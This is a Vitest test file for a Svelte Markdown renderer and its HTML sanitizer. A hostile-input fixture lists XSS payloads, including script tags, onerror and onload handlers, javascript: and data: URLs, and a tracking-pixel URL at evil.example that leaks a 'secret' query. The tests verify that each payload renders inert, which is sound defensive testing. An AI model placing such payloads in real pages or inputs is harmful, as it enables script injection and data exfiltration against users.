// @vitest-environment jsdom
import { afterEach, describe, expect, it, vi } from 'vitest';
import { cleanup, fireEvent, render, waitFor } from '@testing-library/svelte';
import Markdown from './Markdown.svelte';
import { renderMarkdown, sanitize } from '../../lib/markdown';

afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
});

const hostile = [
  '# Totally safe',
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:window.__pwned=3">raw link</a>',
  '[click me](javascript:window.__pwned=4)',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox)',
  '![tracker](https://evil.example/pixel.png?q=secret)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '<svg onload="window.__pwned = 5"></svg>',
  '<div style="background:url(https://evil.example/)" onclick="window.__pwned=6">x</div>',
  '```html',
  '<script>window.__pwned = 7</script><img src=x onerror=alert(1)>',
  '```',
  '`<img src=x onerror=alert(2)>`',
  'Autolink: <javascript:alert(3)> and https://example.com/ok',
].join('\n\n');

describe('Markdown', () => {
  it('renders headings, emphasis, lists, tables and links', () => {
    const { container } = render(Markdown, {
      text: '## Plan\n\n**bold** and *em*\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n[docs](https://example.com/docs)',
    });
    expect(container.querySelector('h2')?.textContent).toBe('Plan');
    expect(container.querySelector('strong')?.textContent).toBe('bold');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    const table = container.querySelector('.table-wrap > table');
    expect(table?.querySelectorAll('th')).toHaveLength(2);
    expect(table?.querySelector('td:last-child')?.getAttribute('style')).toBe('text-align:right');
    const a = container.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/docs');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('highlights a code block and copies its code', async () => {
    const writeText = vi.fn().mockResolvedValue(undefined);
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    const code = 'def f(x):\n    return "<b>" + x  # not HTML\n';
    const { container, getByRole } = render(Markdown, { text: '```python\n' + code + '```' });
    const el = container.querySelector('pre code.language-python')!;
    expect(el.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(el.querySelector('b')).toBeNull(); // the string is text
    const copy = getByRole('button', { name: 'Copy the python code' });
    await fireEvent.click(copy);
    expect(writeText).toHaveBeenCalledWith(code);
    expect(copy.textContent).toBe('Copied ✓');
  });

  it('keeps an unknown language as escaped text', () => {
    const { container } = render(Markdown, { text: '```brainfuck\n<i>+++</i>\n```' });
    expect(container.querySelector('pre code')?.textContent).toBe('<i>+++</i>\n');
    expect(container.querySelector('pre code i')).toBeNull();
  });

  it('renders a hostile answer inert: no script, handler, frame or dangerous URL reaches the DOM', async () => {
    const w = window as unknown as { __pwned?: number };
    delete w.__pwned;
    const { container } = render(Markdown, { text: hostile });
    await new Promise((r) => setTimeout(r, 20)); // an onerror would have fired by now
    expect(w.__pwned).toBeUndefined();
    for (const tag of ['script', 'iframe', 'svg', 'object', 'embed', 'style', 'form', 'input']) {
      expect(container.querySelectorAll(tag), tag).toHaveLength(0);
    }
    expect(container.querySelectorAll('img'), 'no image loaded from anywhere').toHaveLength(0);
    for (const el of container.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        expect(attr.name, `${el.tagName} ${attr.name}`).not.toMatch(/^on/i);
        expect(attr.value, `${el.tagName} ${attr.name}`).not.toMatch(/javascript:|vbscript:|data:text|url\(/i);
      }
    }
    for (const a of container.querySelectorAll('a')) {
      expect(a.getAttribute('href') ?? '').toMatch(/^(https:|#$)/);
    }
    // What was HTML is shown as text, the code block's too.
    expect(container.textContent).toContain('<script>window.__pwned = 1</script>');
    expect(container.querySelector('pre code')?.textContent).toContain('<script>window.__pwned = 7</script>');
    // The remote image is a link the user may open, not a request.
    const img = [...container.querySelectorAll('a.image-link')].find((a) => a.textContent?.includes('tracker'));
    expect(img?.getAttribute('href')).toBe('https://evil.example/pixel.png?q=secret');
    expect(container.querySelector('h1')?.textContent).toBe('Totally safe');
  });

  it('renders a streaming text at most every 100 ms, and the final one at once', async () => {
    // The screen's clock and timers are the test's: on a loaded machine a
    // real 100 ms passes between two steps of a test.
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout', 'performance'] });
    try {
      await vi.advanceTimersByTimeAsync(1000);
      const { container, rerender } = render(Markdown, { text: 'one', live: true });
      await vi.advanceTimersByTimeAsync(0);
      expect(container.textContent?.trim()).toBe('one');
      await rerender({ text: 'one **two**', live: true });
      await rerender({ text: 'one **two** three', live: true });
      await vi.advanceTimersByTimeAsync(99);
      expect(container.querySelector('strong')).toBeNull(); // not yet: within 100 ms of the last render
      await vi.advanceTimersByTimeAsync(1);
      expect(container.textContent?.trim()).toBe('one two three');
      await rerender({ text: 'one **two** three `four`', live: false });
      expect(container.querySelector('code')?.textContent).toBe('four');
    } finally {
      vi.useRealTimers();
    }
  });

  it('shows an inline raster image, which needs no request', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    const { container } = render(Markdown, { text: `![dot](${png})` });
    expect(container.querySelector('img')?.getAttribute('src')).toBe(png);
    expect(container.querySelector('img')?.getAttribute('alt')).toBe('dot');
  });
});

describe('sanitize', () => {
  it('drops what the allow-list does not name, whatever produced it', () => {
    const out = sanitize(
      '<p onclick="x()" class="a">hi<script>x()</script><a href="javascript:x()" target="_blank">l</a><img src="https://t/" onerror="x()"><iframe></iframe><td style="color:red">c</td></p>',
    );
    const div = document.createElement('div');
    div.innerHTML = out;
    expect(div.querySelector('p')?.getAttribute('onclick')).toBeNull();
    expect(div.querySelector('p')?.className).toBe('a');
    expect(div.querySelector('script, iframe')).toBeNull();
    expect(div.querySelector('a')?.hasAttribute('href')).toBe(false);
    expect(div.querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(div.querySelector('img')?.hasAttribute('onerror')).toBe(false);
  });

  it('renderMarkdown output is stable for plain text', () => {
    expect(renderMarkdown('hello')).toBe('<p>hello</p>\n');
  });
});
